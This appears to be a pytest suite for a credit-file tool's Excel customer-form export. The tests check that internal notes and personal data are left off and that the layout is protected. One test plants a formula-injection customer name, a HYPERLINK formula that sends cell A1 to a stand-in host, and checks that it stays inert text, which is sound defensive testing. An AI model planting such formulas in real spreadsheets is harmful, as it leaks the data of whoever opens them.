"""``creditfile form``: the form a customer fills in, as the customer and the office see it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from cli_support import Run, no_traceback
from openpyxl import load_workbook

from creditfile.document import field_catalogue
from creditfile.spreadsheets.customer_form import FORM_SHEET
from creditfile.store import Archive

INTERNAL = {
    "characteristics": {"development_potential": "潜力一般内部评价"},
    "business": {
        "construction_business": "承接学校、医院等公建项目",
        "leasing_performance": "租赁表现内部记录",
        "cooperation_attitude": "合作态度内部看法",
    },
    "trading": {"problems": "内部存在问题", "countermeasures": "内部对策"},
    "assessment": {"strength": 8, "note": "评估备注内部", "assessed_by": "王评估"},
    "sources": [{"kind": "salesperson_visit", "by": "李业务", "note": "走访备注内部"}],
    "leases": [
        {"contract": "HT-9", "item": "tower_crane", "start": "2025-01-01", "amount": 777777,
         "status": "active", "outstanding": 5555}
    ],
}  # fmt: skip
COMPANY: dict[str, Any] = {
    "id": "C1",
    "name": "武汉宏达建设工程有限公司",
    "nature": "ordinary_company",
    "credit_code": "91420100MA4K8XXX1U",
    "contact": {"phone": "02785551234", "person": "张三", "address": "武汉市江汉路1号"},
    "profile": {
        "founded_on": "2008-05-20",
        "registered_capital": 50000000,
        "total_assets": 120000000,
        "trading_since": "2019-03-01",
        "person": {"age": 51, "family": "家庭内部信息"},
    },
    **INTERNAL,
}
PERSON: dict[str, Any] = {
    "id": "P1",
    "name": "刘个人",
    "nature": "individual",
    "contact": {"phone": "13912345678", "address": "个人住址", "email": "liu@example.cn"},
}


@pytest.fixture
def archive(tmp_path: Path) -> Path:
    path = tmp_path / "archive.json"
    docs = [dict(COMPANY, credit_code=None), PERSON]
    Archive.open(path, create=True).import_customers(docs, actor="seed")
    return path


def _sheet(path: Path) -> Any:
    return load_workbook(path)[FORM_SHEET]


def _answers(sheet: Any) -> dict[str, Any]:
    """``{field key: answer cell}`` by the hidden key column."""
    return {
        row[3].value: row[1] for row in sheet.iter_rows(min_row=4) if isinstance(row[3].value, str)
    }


def _every_text(path: Path) -> str:
    book = load_workbook(path)
    return "\n".join(
        str(cell.value) for ws in book.worksheets for row in ws.iter_rows() for cell in row
    )


def test_a_form_asks_only_what_a_customer_declares_prefilled(archive: Path, run: Run) -> None:
    done = run("form", "C1", "--out", "c1.xlsx")
    assert done.returncode == 0, done.stderr
    out = archive.parent / "c1.xlsx"
    sheet = _sheet(out)
    answers = _answers(sheet)
    declarable = [f.key for f in field_catalogue().declarable()]
    assert list(answers) == ["id", *declarable, "form.by", "form.on"]
    assert answers["name"].value == "武汉宏达建设工程有限公司"
    assert answers["profile.registered_capital"].value == 50000000
    assert answers["business.construction_business"].value == "承接学校、医院等公建项目"
    # Ids and phones stay text in Excel: a leading 0 is kept when the customer retypes it.
    assert answers["contact.phone"].value == "02785551234"
    assert answers["contact.phone"].number_format == "@"
    assert answers["id"].number_format == "@"
    # Labels in Chinese, the instructions above them.
    labels = [row[0].value for row in sheet.iter_rows(min_row=4) if row[3].value]
    assert labels[:3] == ["客户编号", "客户名称", "统一社会信用代码"]
    assert "注册资本(元)" in labels
    assert "请在「填写内容」一列填写" in sheet["A2"].value
    # Every answer starts at the left of its cell, amounts and dates too: none runs into the
    # note beside it; the title in the sheet's own typeface, not a substitute.
    assert {a.alignment.horizontal for a in answers.values()} == {"left"}
    assert sheet["A1"].font.name == sheet["C4"].font.name == "Calibri"
    # Nothing internal anywhere in the workbook.
    text = _every_text(out)
    for secret in ("内部", "王评估", "李业务", "777777", "5555", "HT-9", "2019-03-01"):
        assert secret not in text
    # The layout is protected; only the answers (not our id) take typing.
    assert sheet.protection.sheet is True
    assert answers["id"].protection.locked is True
    assert answers["name"].protection.locked is False
    assert sheet.column_dimensions["D"].hidden is True
    assert out.stat().st_mode & 0o777 == 0o600


def test_a_blank_form_and_an_individuals_form(archive: Path, run: Run) -> None:
    assert run("form", "--blank", "--out", "blank.xlsx").returncode == 0
    blank = _answers(_sheet(archive.parent / "blank.xlsx"))
    assert all(cell.value is None for cell in blank.values())
    assert blank["id"].protection.locked is False  # the office writes the id in
    assert run("form", "P1", "--out", "p1.xlsx").returncode == 0
    person = _answers(_sheet(archive.parent / "p1.xlsx"))
    # An individual's phone, address and e-mail are personal data: never on a form.
    assert {"contact.phone", "contact.address", "contact.email"}.isdisjoint(person)
    assert "13912345678" not in _every_text(archive.parent / "p1.xlsx")
    # Nor does it ask what only a company has.
    assert {"credit_code", "profile.founded_on", "profile.registered_capital"}.isdisjoint(person)
    assert "统一社会信用代码" not in _every_text(archive.parent / "p1.xlsx")
    assert "profile.total_assets" in person and "name" in person


@pytest.mark.parametrize("nature", ["individual", "个人", "Individual"])
def test_a_blank_form_for_an_individual_asks_what_a_person_has(
    archive: Path, run: Run, nature: str
) -> None:
    done = run("form", "--blank", "--type", nature, "--out", "b.xlsx")
    assert done.returncode == 0, done.stderr
    blank = _answers(_sheet(archive.parent / "b.xlsx"))
    left_out = {
        "credit_code",
        "profile.founded_on",
        "profile.registered_capital",
        "contact.phone",
        "contact.email",
    }
    assert left_out.isdisjoint(blank)
    assert {"id", "name", "profile.total_assets", "form.by", "form.on"} <= set(blank)
    company = run("form", "--blank", "--type", "普通公司", "--out", "c.xlsx")
    assert company.returncode == 0, company.stderr
    assert left_out <= set(_answers(_sheet(archive.parent / "c.xlsx")))


def test_an_individuals_answer_to_a_companys_question_is_refused_a_blank_one_ignored(
    archive: Path, run: Run
) -> None:
    from openpyxl import load_workbook as load

    # A company's blank form filled in for an individual.
    assert run("form", "--blank", "--out", "b.xlsx").returncode == 0
    form = archive.parent / "b.xlsx"
    book = load(form)
    cells = _answers(book[FORM_SHEET])
    cells["id"].value = "P1"
    cells["name"].value = "刘个人"
    cells["profile.total_assets"].value = 3000000
    cells["form.by"].value = "刘个人"
    book.save(form)
    done = run("form", "import", "b.xlsx")
    assert done.returncode == 0, done.stderr  # a blank credit code row is no answer
    cells["profile.registered_capital"].value = 1000000
    cells["form.on"].value = "2026-11-30"
    book.save(form)
    before = archive.read_bytes()
    done = run("form", "import", "b.xlsx")
    assert done.returncode == 1 and no_traceback(done)
    cell = cells["profile.registered_capital"].coordinate
    assert f"b.xlsx:{FORM_SHEET}!{cell}: 注册资本: P1 is an individual, who has none" in done.stderr
    assert archive.read_bytes() == before


def test_a_hostile_name_stays_text_in_the_form(tmp_path: Path, run: Run) -> None:
    hostile = dict(COMPANY, credit_code=None, name='=HYPERLINK("http://x/?"&A1,"点我")')
    Archive.open(tmp_path / "archive.json", create=True).import_customers([hostile], actor="s")
    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
    cell = _answers(_sheet(tmp_path / "c1.xlsx"))["name"]
    assert cell.data_type == "s" and cell.quotePrefix is True
    assert cell.value == hostile["name"]


@pytest.mark.parametrize(
    ("args", "code", "said"),
    [
        (("C1", "--out", "archive.json"), 1, "the archive itself"),
        (("C1", "--out", "archive.json.history.jsonl"), 1, "history"),
        (("C9", "--out", "x.xlsx"), 1, "no customer 'C9'"),
        (("C1", "--out", "x.csv"), 2, ".xlsx"),
        (("C1",), 2, "--out"),
        (("C1", "--blank", "--out", "x.xlsx"), 2, "--blank"),
        (("C1", "--type", "individual", "--out", "x.xlsx"), 2, "blank form"),
        (("--blank", "--type", "公司", "--out", "x.xlsx"), 2, "Individual"),
    ],
)
def test_refused(archive: Path, run: Run, args: tuple[str, ...], code: int, said: str) -> None:
    before = archive.read_bytes()
    done = run("form", *args)
    assert done.returncode == code and said in done.stderr and no_traceback(done)
    assert archive.read_bytes() == before
    assert not (archive.parent / "x.xlsx").exists()


def test_an_existing_form_is_replaced_only_with_force(archive: Path, run: Run) -> None:
    out = archive.parent / "c1.xlsx"
    out.write_bytes(b"a form being filled in")
    done = run("form", "C1", "--out", "c1.xlsx")
    assert done.returncode == 1 and no_traceback(done)
    assert "c1.xlsx" in done.stderr and "exists already" in done.stderr
    assert "--force" in done.stderr
    assert out.read_bytes() == b"a form being filled in"
    done = run("form", "--blank", "--out", "c1.xlsx")
    assert done.returncode == 1 and out.read_bytes() == b"a form being filled in"
    done = run("form", "C1", "--out", "c1.xlsx", "--force")
    assert done.returncode == 0, done.stderr
    assert _answers(_sheet(out))["id"].value == "C1"
    chinese = run("--lang", "zh", "form", "C1", "--out", "c1.xlsx")
    assert chinese.returncode == 1 and "--force" in chinese.stderr and "c1.xlsx" in chinese.stderr
